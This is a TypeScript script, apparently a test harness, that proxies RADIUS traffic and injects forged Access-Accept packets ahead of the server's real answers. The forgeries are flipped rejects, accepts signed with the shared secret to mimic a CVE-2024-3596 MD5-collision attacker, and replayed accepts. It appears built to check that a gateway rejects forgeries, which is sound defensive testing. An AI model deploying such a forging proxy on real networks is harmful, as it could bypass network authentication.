import { createHash } from 'node:crypto'
import { createSocket, type RemoteInfo } from 'node:dgram'
import { CODES, parseRadiusPacket } from '@causeway/radius'
import { WireFault } from '@causeway/wire'

// Stands between a gateway and its RADIUS server: passes all on, but before each answer of the server, sends accepts
// that nobody should believe. Started as `forger-main.ts LISTEN UPSTREAM SECRET`.

const [listen = '', upstream = '', secret = ''] = process.argv.slice(2)
const PORT = 1812
/** The gateway has judged what came before by then. */
const PAUSE_MS = 50
const MESSAGE_AUTHENTICATOR = Buffer.from([80, 18, ...new Uint8Array(16)])

let earlier: Buffer | undefined
const socket = createSocket('udp4', pass).bind(PORT, listen, () => console.log('listening'))

function pass(request: Buffer, from: RemoteInfo): void {
  const back = createSocket('udp4').bind(0, listen)
  back.once('message', answer => {
    back.close()
    const send = (bytes: Uint8Array): void => socket.send(bytes, from.port, from.address)
    for (const forged of forgeries(request, answer)) send(forged)
    setTimeout(() => {
      send(answer)
      send(answer)
    }, PAUSE_MS)
  })
  back.send(request, PORT, upstream)
}

function forgeries(request: Buffer, answer: Buffer): Buffer[] {
  const replayed = earlier ? [withIdentifier(earlier, request)] : []
  if (codeOf(answer) === CODES.ACCESS_ACCEPT) earlier = Buffer.from(answer)
  return [
    flipped(answer),
    proven(request, Buffer.alloc(0)),
    proven(request, MESSAGE_AUTHENTICATOR),
    ...replayed,
  ]
}

function codeOf(packet: Uint8Array): number {
  const parsed = parseRadiusPacket(packet)
  return parsed instanceof WireFault ? 0 : parsed.code
}

/** The answer as it is, but for a no that has become a yes. */
function flipped(answer: Buffer): Buffer {
  const accept = Buffer.from(answer)
  accept[0] = CODES.ACCESS_ACCEPT
  accept[4] = (accept[4] ?? 0) ^ 1
  return accept
}

/** What an attacker has who can make MD5 collide (CVE-2024-3596): the Response Authenticator is right, no more. */
function proven(request: Buffer, attributes: Buffer): Buffer {
  const accept = Buffer.concat([request.subarray(0, 20), attributes])
  accept[0] = CODES.ACCESS_ACCEPT
  accept.writeUInt16BE(accept.length, 2)
  createHash('md5').update(accept).update(secret).digest().copy(accept, 4)
  return accept
}

function withIdentifier(accept: Buffer, request: Buffer): Buffer {
  const replayed = Buffer.from(accept)
  request.copy(replayed, 1, 1, 2)
  return replayed
}
